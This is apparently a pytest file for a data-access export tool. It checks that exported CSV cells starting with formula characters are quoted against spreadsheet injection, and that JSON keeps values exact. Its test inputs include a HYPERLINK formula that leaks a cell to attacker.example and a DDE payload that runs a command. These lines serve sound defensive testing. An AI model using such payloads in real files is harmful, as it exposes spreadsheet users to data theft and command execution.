"""The access package's CSV is safe to open in a spreadsheet (OWASP CSV injection) while its JSON keeps
every value exactly; a JSON-lines value with a lone surrogate escape exports (issue 18)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from dsarctl.export import spreadsheet_cell
from helpers import required_binary, write_inventory

FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1+1"]


def crm(folder: Path, rows: list[tuple]) -> Path:
    """A CRM table with a column per kind of value."""
    db = folder / "crm.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT, name TEXT, phone TEXT, "
                     "note TEXT, balance TEXT)")
        conn.executemany("INSERT INTO customers VALUES (?,?,?,?,?,?)", rows)
    conn.close()
    return write_inventory(folder, """
        crm:
          connector: sql
          url: sqlite:///crm.db
          collections:
            customers:
              identities: {email: email}
    """)


def exported(cli, inventory: Path, subject: str, tmp_path: Path) -> dict[str, bytes]:
    target = tmp_path / "out.zip"
    r = cli("-i", str(inventory), "export", subject, "-o", str(target))
    assert r.code == 0, r
    with zipfile.ZipFile(target) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_is_neutralised_in_the_csv_and_exact_in_the_json(tmp_path, cli, formula):
    inventory = crm(tmp_path, [(1, "alice@example.com", formula, "+44 20 7946 0958", formula, "-12.50"),
                               (2, "bob@example.com", "Bob", None, None, None)])
    files = exported(cli, inventory, "alice@example.com", tmp_path)
    (row,) = csv_rows(files["data/crm/customers.csv"])
    assert row["name"] == row["note"] == "'" + formula
    (record,) = json.loads(files["data/crm/customers.json"])
    assert record["name"] == record["note"] == formula


def test_phone_numbers_keep_their_plus_and_negative_numbers_stay_numbers(tmp_path, cli):
    """A spreadsheet reads `+442079460958` as the number 442079460958 (the + lost) and `+1-555-0100` as
    a sum: a phone number gets the quote that makes the cell text. A negative number stays a number."""
    inventory = crm(tmp_path, [(1, "alice@example.com", "+1-555-0100", "+44 20 7946 0958", "+442079460958",
                                "-12.50")])
    files = exported(cli, inventory, "alice@example.com", tmp_path)
    (row,) = csv_rows(files["data/crm/customers.csv"])
    assert (row["name"], row["phone"], row["note"], row["balance"]) == (
        "'+1-555-0100", "'+44 20 7946 0958", "'+442079460958", "-12.50")
    (record,) = json.loads(files["data/crm/customers.json"])
    assert (record["name"], record["phone"], record["note"], record["balance"]) == (
        "+1-555-0100", "+44 20 7946 0958", "+442079460958", "-12.50")


def test_column_names_are_neutralised_too(tmp_path, cli):
    (tmp_path / "u.jsonl").write_text(json.dumps({"email": "alice@example.com", "=1+2": "x"}) + "\n")
    inventory = write_inventory(tmp_path, """
        usage:
          connector: jsonl
          path: u.jsonl
          identities: {email: email}
    """)
    files = exported(cli, inventory, "alice@example.com", tmp_path)
    header = next(csv.reader(io.StringIO(files["data/usage/usage.csv"].decode("utf-8-sig"), newline="")))
    assert header == ["email", "'=1+2"]
    assert json.loads(files["data/usage/usage.json"]) == [{"email": "alice@example.com", "=1+2": "x"}]


@pytest.mark.parametrize("value, cell", [
    ("=1", "'=1"), ("+", "'+"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1+1", "'-1+1"),
    ("+44 20 7946 0958 ext. 12", "'+44 20 7946 0958 ext. 12"), ("+1 (555) 010-9999", "'+1 (555) 010-9999"),
    ("+44 (0)20 7946 0958", "'+44 (0)20 7946 0958"), ("+442079460958", "'+442079460958"), ("+7", "'+7"),
    ("-3", "-3"), ("-12.50", "-12.50"), ("-.5e-3", "-.5e-3"), ("1e5", "1e5"), ("a=1", "a=1"),
    ("", ""), (" =1", " =1"), ("'=1", "'=1"),
])
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def test_a_lone_surrogate_escape_in_json_lines_exports(tmp_path, cli):
    """`"\\udc80"` is valid JSON, but UTF-8 cannot hold the character: the JSON file keeps it as the
    escape (the value reads back exactly), the CSV and index.html show U+FFFD; exit 0."""
    line = '{"email": "alice@example.com", "note": "x\\udc80y", "name": "Zoë"}\n'
    (tmp_path / "u.jsonl").write_text(line + '{"email": "bob@example.com", "note": "n"}\n')
    inventory = write_inventory(tmp_path, """
        usage:
          connector: jsonl
          path: u.jsonl
          identities: {email: email}
          erase: {action: anonymize, fields: {email: hash}}
    """)
    files = exported(cli, inventory, "alice@example.com", tmp_path)
    (record,) = json.loads(files["data/usage/usage.json"].decode("utf-8"))
    assert record == {"email": "alice@example.com", "note": "x\udc80y", "name": "Zoë"}
    (row,) = csv_rows(files["data/usage/usage.csv"])
    assert row["note"] == "x\ufffdy" and row["name"] == "Zoë"
    assert "x\ufffdy" in files["index.html"].decode("utf-8")
    json.loads(files["manifest.json"].decode("utf-8"))
    # the erase masks the record and writes the surrogate back as the escape it was
    r = cli("-i", str(inventory), "erase", "alice@example.com", "--yes")
    assert r.code == 0, r
    first = (tmp_path / "u.jsonl").read_text(encoding="utf-8").splitlines()[0]
    masked = json.loads(first)
    assert masked["note"] == "x\udc80y" and masked["email"] != "alice@example.com"


def test_a_lone_surrogate_in_an_identity_field_is_no_ones_identifier(tmp_path, cli):
    """A value that cannot even be written in UTF-8 names no one: it is not followed (the audit log,
    which keeps the run's identifiers, is UTF-8), and export and erase act on the record as found."""
    (tmp_path / "u.jsonl").write_text('{"email": "alice@example.com", "account": "x\\udc80"}\n'
                                      '{"email": "bob@example.com", "account": "b"}\n')
    inventory = write_inventory(tmp_path, """
        usage:
          connector: jsonl
          path: u.jsonl
          identities: {email: email, customer_id: account}
          erase: delete
    """)
    r = cli("-i", str(inventory), "find", "alice@example.com", "--json")
    assert r.code == 0, r
    assert [i["value"] for i in r.json()["identifiers"]] == ["alice@example.com"]
    files = exported(cli, inventory, "alice@example.com", tmp_path)
    assert json.loads(files["data/usage/usage.json"]) == [{"email": "alice@example.com", "account": "x\udc80"}]
    r = cli("-i", str(inventory), "erase", "alice@example.com", "--yes")
    assert r.code == 0, r
    assert (tmp_path / "u.jsonl").read_text() == '{"email": "bob@example.com", "account": "b"}\n'


# -- LibreOffice as the oracle ----------------------------------------------------------------------

SOFFICE = "DSARCTL_TEST_SOFFICE"
_ODF = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}


def soffice_binary() -> str:
    """LibreOffice (Debian's libreoffice-calc-nogui) from DSARCTL_TEST_SOFFICE; skips without it, or
    fails when DSARCTL_TEST_REQUIRE_SERVERS=1."""
    return required_binary(SOFFICE, "/usr/bin/soffice, from Debian's libreoffice-calc-nogui", "spreadsheet")


def opened_in_calc(soffice: str, csv_file: Path, detect_special_numbers: bool) -> list[list[tuple[str, str, str]]]:
    """Each row of `csv_file` as LibreOffice Calc opens it (UTF-8, comma, double quotes): a cell is
    (value type, shown text, formula or "")."""
    options = f"44,34,76,1,,0,false,{'true' if detect_special_numbers else 'false'}"
    out = csv_file.parent / "calc"
    subprocess.run([soffice, f"-env:UserInstallation={(csv_file.parent / 'profile').as_uri()}", "--headless",
                    f"--infilter=CSV:{options}", "--convert-to", "fods", "--outdir", str(out), str(csv_file)],
                   check=True, capture_output=True, timeout=180)
    root = ElementTree.parse(out / (csv_file.stem + ".fods")).getroot()
    rows = []
    for row in root.iter(f"{{{_ODF['table']}}}table-row"):
        cells = [(c.get(f"{{{_ODF['office']}}}value-type") or "",
                  "\n".join("".join(p.itertext()) for p in c.findall("text:p", _ODF)),
                  c.get(f"{{{_ODF['table']}}}formula") or "")
                 for c in row.findall("table:table-cell", _ODF)]
        rows.append(cells)
    return rows


@pytest.mark.parametrize("detect_special_numbers", [False, True])
def test_libreoffice_shows_every_cell_as_text_with_its_plus_and_runs_nothing(tmp_path, cli, detect_special_numbers):
    """The package's CSV opened in LibreOffice Calc: phone numbers are text that keeps the `+` (shown
    after the quote), formulas are text and not formulas, a negative amount is still a number. The
    same values written raw are what goes wrong (the oracle can tell)."""
    soffice = soffice_binary()
    inventory = crm(tmp_path, [(1, "alice@example.com", "=1+1", "+442079460958", "+1-555-0100", "-12.50"),
                               (2, "alice@example.com", "Alice", "+44 20 7946 0958", "", "")])
    package = exported(cli, inventory, "alice@example.com", tmp_path)
    (tmp_path / "package.csv").write_bytes(package["data/crm/customers.csv"])
    (tmp_path / "raw.csv").write_bytes("\ufeffname,phone\r\n=1+1,+442079460958\r\n".encode())

    header, first, second = opened_in_calc(soffice, tmp_path / "package.csv", detect_special_numbers)[:3]
    assert [text for _, text, _ in header][:6] == ["id", "email", "name", "phone", "note", "balance"]
    assert first[2:6] == [("string", "'=1+1", ""), ("string", "'+442079460958", ""),
                          ("string", "'+1-555-0100", ""), ("float", "-12.5", "")]
    assert second[3] == ("string", "'+44 20 7946 0958", "")
    _, raw = opened_in_calc(soffice, tmp_path / "raw.csv", detect_special_numbers)[:2]
    assert raw[0][2] == "of:=1+1"  # run as a formula ...
    assert raw[1] == ("float", "442079460958", "")  # ... and the + lost: what the quote prevents
